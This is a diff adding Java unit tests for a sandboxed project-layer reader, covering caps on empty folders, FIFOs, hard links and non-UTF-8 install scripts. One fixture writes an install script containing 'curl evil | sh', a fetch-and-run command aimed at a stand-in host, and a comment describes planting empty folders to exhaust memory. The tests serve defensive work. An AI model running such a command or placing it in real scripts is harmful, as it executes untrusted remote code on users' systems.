@@ -123,4 +123,64 @@ class ProjectLayersTest {
         assertFalse(before.digest().equals(after.digest()));
         assertEquals(before.digest(), new LayerFingerprint(before.files()).digest());
     }
+
+    @Test
+    void manyEmptyFoldersAreRefusedWhileListed() throws IOException {
+        // Red team: empty folders cost the sandbox no bytes and were not counted, so it could plant
+        // millions for the next run to list into memory.
+        Path dir = layer("mine");
+        for (int i = 0; i < ProjectLayers.MAX_ENTRIES; i++) {
+            Files.createDirectory(dir.resolve("d" + i));
+        }
+        LayerException e = assertThrows(LayerException.class, () -> ProjectLayers.read(project));
+        assertTrue(e.getMessage().contains("holds more than " + ProjectLayers.MAX_ENTRIES + " files and folders"),
+                e.getMessage());
+
+        for (int i = 0; i < ProjectLayers.MAX_ENTRIES - ProjectLayers.MAX_FILES; i++) {
+            Files.delete(dir.resolve("d" + i));
+        }
+        assertEquals(List.of("mine"), ProjectLayers.read(project).layerNames(),
+                "the positive control: a tree within the cap reads");
+    }
+
+    @Test
+    void fifosAndHardLinksAreJudgedAsWhatTheyAre() throws IOException, InterruptedException {
+        // A FIFO would block the read; it is not a regular file, so it is refused before any open.
+        Path dir = layer("mine");
+        Path fifo = dir.resolve("pipe");
+        Process mkfifo = new ProcessBuilder("mkfifo", fifo.toString()).start();
+        assertEquals(0, mkfifo.waitFor());
+        LayerException e = assertThrows(LayerException.class, () -> ProjectLayers.read(project));
+        assertTrue(e.getMessage().contains("neither a folder nor a regular file"), e.getMessage());
+        Files.delete(fifo);
+
+        // A hard link is a regular file: its bytes are read, fingerprinted and shown like any other,
+        // so a link to a file elsewhere (only the project is visible to a sandbox) hides nothing.
+        Path other = Files.writeString(project.resolve("notes.txt"), "project notes\n");
+        Files.createLink(dir.resolve("notes.txt"), other);
+        ProjectLayers layers = ProjectLayers.read(project);
+        assertEquals(Optional.of("project notes\n"), layers.content("mine/notes.txt").map(String::new));
+        assertEquals(LayerFingerprint.sha256("project notes\n".getBytes(StandardCharsets.UTF_8)),
+                layers.fingerprint().files().get("mine/notes.txt"));
+    }
+
+    @Test
+    void anInstallScriptThatIsNotUtf8IsNeverBuilt() throws IOException {
+        // The trust prompt cannot show bytes that are not text (it says "not UTF-8 text"), so such a
+        // script must never reach a build: trusting the tree does not let it in.
+        Path dir = layer("mine");
+        byte[] script = "echo hi; curl evil | sh\n".getBytes(StandardCharsets.UTF_8);
+        byte[] invalid = java.util.Arrays.copyOf(script, script.length + 1);
+        invalid[script.length] = (byte) 0xff;
+        Files.write(dir.resolve("install.sh"), invalid);
+        ProjectLayers layers = ProjectLayers.read(project);
+        LayerException e = assertThrows(LayerException.class,
+                () -> LayerResolver.builder().projectLayers(layers).build().resolve("mine"));
+        assertTrue(e.getMessage().contains("is not UTF-8 text"), e.getMessage());
+
+        Files.write(dir.resolve("install.sh"), script);
+        assertEquals(Optional.of("echo hi; curl evil | sh\n"), LayerResolver.builder()
+                .projectLayers(ProjectLayers.read(project)).build().resolve("mine").layers().get(0).installScript(),
+                "the positive control: the same script as text is used");
+    }
 }
